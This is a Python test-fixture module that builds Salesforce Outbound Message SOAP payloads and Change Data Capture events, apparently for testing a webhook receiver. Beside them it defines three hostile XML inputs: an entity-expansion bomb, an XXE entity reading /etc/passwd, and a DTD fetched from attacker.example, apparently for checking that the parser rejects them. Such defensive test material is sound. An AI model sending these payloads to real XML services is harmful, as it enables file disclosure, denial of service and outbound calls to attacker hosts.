"""Outbound Messages and change events as Salesforce (or an Apex relay) sends them, for tests."""

from __future__ import annotations

from collections.abc import Sequence
from typing import Any

from tests.salesforce.sf_emulator import INTEGRATION_USER, ORG_ID


def outbound_message(
    records: Sequence[tuple[str, str]],
    *,
    org_id: str = ORG_ID,
    object: str = "Lead",
    modified_by: str = "005000000000009AAA",
    first_notification: int = 1,
) -> bytes:
    """A ``notifications`` SOAP message: one Notification per (notification id, record id)."""
    items = "".join(
        f"<Notification><Id>{nid}</Id>"
        f'<sObject xsi:type="sf:{object}" xmlns:sf="urn:sobject.enterprise.soap.sforce.com">'
        f"<sf:Id>{rid}</sf:Id><sf:LastModifiedById>{modified_by}</sf:LastModifiedById>"
        "<sf:SystemModstamp>2026-11-02T01:00:00.000Z</sf:SystemModstamp>"
        "</sObject></Notification>"
        for nid, rid in records
    )
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" '
        'xmlns:xsd="http://www.w3.org/2001/XMLSchema" '
        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><soapenv:Body>'
        '<notifications xmlns="http://soap.sforce.com/2005/09/outbound">'
        f"<OrganizationId>{org_id}</OrganizationId>"
        '<ActionId>04k5j000000AAAAAA2</ActionId><SessionId xsi:nil="true"/>'
        "<EnterpriseUrl>https://example.my.salesforce.com/services/Soap/c/59.0/00D</EnterpriseUrl>"
        "<PartnerUrl>https://example.my.salesforce.com/services/Soap/u/59.0/00D</PartnerUrl>"
        f"{items}</notifications></soapenv:Body></soapenv:Envelope>"
    ).encode()


XML_BOMB = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<notifications xmlns="http://soap.sforce.com/2005/09/outbound">&lol3;</notifications>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE n [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<notifications xmlns="http://soap.sforce.com/2005/09/outbound">
<OrganizationId>&xxe;</OrganizationId></notifications>"""

BARE_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE notifications SYSTEM "http://attacker.example/n.dtd">
<notifications xmlns="http://soap.sforce.com/2005/09/outbound"/>"""


def change_event(
    record_ids: Sequence[str],
    *,
    changed: Sequence[str] = ("Status",),
    change_type: str = "UPDATE",
    commit_user: str = "005000000000009AAA",
    transaction: str = "0002a4b1-ac47-1f21-b8a0-16aa61a0d6b7",
    sequence: int = 1,
    entity: str = "Lead",
) -> dict[str, Any]:
    """One Change Data Capture event as the Apex relay in docs/salesforce.md sends it."""
    return {
        "ChangeEventHeader": {
            "entityName": entity,
            "recordIds": list(record_ids),
            "changeType": change_type,
            "changedFields": list(changed),
            "commitTimestamp": 1793581200000,
            "commitUser": commit_user,
            "transactionKey": transaction,
            "sequenceNumber": sequence,
        }
    }


__all__ = [
    "BARE_DTD",
    "EXTERNAL_ENTITY",
    "INTEGRATION_USER",
    "XML_BOMB",
    "change_event",
    "outbound_message",
]
